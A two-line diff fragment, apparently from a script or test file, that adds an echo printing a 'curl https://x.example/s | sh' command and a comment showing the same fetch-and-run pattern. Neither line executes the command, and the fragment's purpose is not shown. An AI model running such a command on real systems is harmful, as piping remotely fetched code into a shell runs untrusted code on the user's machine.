@@ -1,0 +1,2 @@
+echo 'curl https://x.example/s | sh'
+# curl x | sh
